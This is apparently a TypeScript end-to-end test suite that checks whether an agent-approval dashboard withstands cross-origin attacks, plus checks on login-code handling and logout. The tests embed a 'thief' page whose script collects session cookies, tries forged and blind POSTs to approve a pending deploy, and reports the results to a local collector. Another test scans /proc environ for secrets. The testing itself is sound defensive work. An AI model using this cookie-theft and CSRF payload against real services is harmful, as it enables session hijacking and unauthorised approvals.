import assert from 'node:assert/strict'
import { existsSync, lstatSync, readdirSync, readFileSync } from 'node:fs'
import { createServer, request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import process from 'node:process'
import { test } from 'node:test'
import { type Answered, exec, get, post } from '../e2e/server.ts'
import { dashboard, findBrowser, goTo, loginPage, type Opened } from './browser.ts'

const { path, why } = findBrowser()
const skip = why ?? false
const timeout = 120_000

/** A server of the agent's on another port of this host; what it was sent, and a page that tries all it can. */
async function withThief(
  target: string,
  approval: string,
  body: (
    thief: { url: string; cookies: string[]; said: () => string | undefined },
  ) => Promise<void>,
): Promise<void> {
  const cookies: string[] = []
  let said: string | undefined
  const server = createServer((request, response) => {
    cookies.push(request.headers.cookie ?? '')
    if (request.url === '/said') {
      request.setEncoding('utf8')
      said = ''
      request.on('data', (chunk: string) => said += chunk)
      request.on('end', () => response.end())
    } else response.end(thiefPage(target, approval))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  try {
    await body({ url: `http://127.0.0.1:${port}/`, cookies, said: () => said })
  } finally {
    server.closeAllConnections()
    server.close()
  }
}

/** Every way from a page of another port: with the cookie, in a frame, by a form, by a window it opens. */
function thiefPage(target: string, approval: string): string {
  return `<!doctype html><title>thief</title><iframe id=f src="${target}/dashboard"></iframe><script>
const out = []
const attempt = async (name, run) => { try { out.push(name + ': ' + await run()) } catch (e) { out.push(name + ': ' + e.name) } }
const all = { credentials: 'include' }
const json = { 'content-type': 'application/json' }
const yes = JSON.stringify({ approved: true });
(async () => {
  await attempt('read', async () => (await fetch('${target}/v1/approvals', all)).status)
  await attempt('own header', async () => (await fetch('${target}/v1/approvals', { ...all, headers: { 'x-rampart-session': '0'.repeat(64) } })).status)
  await attempt('blind post', async () => (await fetch('${target}/v1/approvals/${approval}/resolve', { ...all, method: 'POST', mode: 'no-cors', body: yes })).type)
  await attempt('json post', async () => (await fetch('${target}/v1/approvals/${approval}/resolve', { ...all, method: 'POST', headers: json, body: yes })).status)
  await attempt('storage', async () => String(sessionStorage.getItem('rampart-session')))
  await attempt('script', () => new Promise((resolve) => { const s = document.createElement('script'); s.onload = () => resolve('loaded'); s.onerror = () => resolve('refused'); s.src = '${target}/dashboard/app.js'; document.head.append(s) }))
  await attempt('frame', async () => document.getElementById('f').contentDocument === null ? 'apart' : document.getElementById('f').contentDocument.body.innerText)
  await fetch('/said', { method: 'POST', body: JSON.stringify(out) })
})()
</script>`
}

async function pendingOne(opened: Opened): Promise<string> {
  const answer = await post(opened.server, '/v1/approvals', {
    ...exec('deploy'),
    tool: 'exec',
    message: 'Deploy?',
  })
  return String(answer.body.id)
}

const statusOf = (answer: Answered) => (answer.body as { status?: string }).status

test(
  'F9 a page on another port of this host gets the cookie, and nothing by it',
  { skip, timeout },
  () =>
    dashboard(path!, {}, async (opened) => {
      const { server, context, page } = opened
      const id = await pendingOne(opened)
      await withThief(server.url, id, async ({ url, cookies, said }) => {
        const tab = await context.newPage()
        await tab.goto(url)
        await tab.waitForFunction(() =>
          performance.getEntriesByType('resource').some(({ name }) => name.endsWith('/said'))
        )
        const stolen = cookies.find((cookie) => cookie.includes('rampart_session_'))
        assert.ok(stolen !== undefined, 'browsers send cookies to every port of a host')
        const attempts = JSON.parse(said() ?? '[]') as string[]
        assert.deepEqual(attempts, [
          'read: TypeError',
          'own header: TypeError',
          'blind post: opaque',
          'json post: TypeError',
          'storage: null',
          'script: refused',
          'frame: apart',
        ])
        // Outside of the browser every header can be made, but the secret is not known.
        for (const more of [{}, { 'x-rampart-session': '0'.repeat(64), origin: server.url }]) {
          const answer: Response = await fetch(`${server.url}/v1/status`, {
            headers: { cookie: stolen, ...more },
          })
          assert.equal(answer.status, 401)
        }
        assert.equal(statusOf(await get(server, `/v1/approvals/${id}`)), 'pending')
        await tab.close()
      })
      await goTo(page, 'approvals')
      await page.locator('.asks-why', { hasText: 'Deploy?' }).waitFor()
    }),
)

test(
  'F9 another tab has the cookie and not the secret: it is not logged in',
  { skip, timeout },
  () =>
    dashboard(path!, {}, async ({ server, context }) => {
      const tab = await context.newPage()
      await tab.goto(`${server.url}/dashboard`)
      await tab.getByText('Open the dashboard from a terminal').waitFor()
    }),
)

test('F40 the code is in a page of this account alone, gone when it was used, in no argument', {
  skip,
  timeout,
}, () =>
  dashboard(path!, {}, async ({ server, home, context }) => {
    const { file, done } = await loginPage(home)
    const { mode, uid } = lstatSync(file)
    assert.deepEqual([mode & 0o777, uid], [0o600, process.getuid?.()])
    const html = readFileSync(file, 'utf8')
    const code = /value="([0-9a-f]{64})"/.exec(html)![1]!
    for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
      assert.ok(!argumentsOf(pid).includes(code), `process ${pid} shows the code`)
    }
    const tab = await context.newPage()
    await tab.goto(`file://${file}`)
    await tab.locator('nav').waitFor()
    assert.ok(!tab.url().includes(code))
    assert.equal(await done, 0)
    assert.equal(existsSync(file), false)
    assert.equal(await tab.locator(`text=${code}`).count(), 0)
    assert.equal(await sendForm(`${server.url}/dashboard/login`, `code=${code}`), 403)
    await tab.getByText('Open the dashboard from a terminal').waitFor()
    const { body } = await get(server, '/v1/audit/events?kind=alert')
    assert.match(JSON.stringify(body), /used twice/)
  }))

/** A form as a program sends it that passes for a browser; resolves with the status. */
function sendForm(url: string, body: string): Promise<number | undefined> {
  const headers = { origin: 'null', 'content-type': 'application/x-www-form-urlencoded' }
  return new Promise((resolve, reject) => {
    const sent = request(url, { method: 'POST', headers }, (answer) => {
      answer.resume()
      resolve(answer.statusCode)
    })
    sent.on('error', reject)
    sent.end(body)
  })
}

function argumentsOf(pid: string): string {
  try {
    return readFileSync(join('/proc', pid, 'cmdline'), 'utf8') +
      readFileSync(join('/proc', pid, 'environ'), 'utf8')
  } catch {
    return ''
  }
}

test(
  'logging out ends the session at once, in every tab that shares it',
  { skip, timeout },
  () =>
    dashboard(path!, {}, async ({ server, page }) => {
      await page.locator('.state[data-state="live"]').waitFor()
      await page.getByRole('button', { name: 'Log out' }).click()
      await page.getByText('Open the dashboard from a terminal').waitFor()
      const { body } = await get(server, '/v1/dashboard/sessions')
      assert.deepEqual(body, { sessions: [] })
      await page.reload()
      await page.getByText('Open the dashboard from a terminal').waitFor()
    }),
)

test(
  'a session that is ended from a terminal leaves no stream behind',
  { skip, timeout },
  () =>
    dashboard(path!, {}, async ({ server, page }) => {
      await page.locator('.state[data-state="live"]').waitFor()
      await post(server, '/v1/dashboard/logout', { session: 'all' })
      await page.getByText('Open the dashboard from a terminal').waitFor()
    }),
)
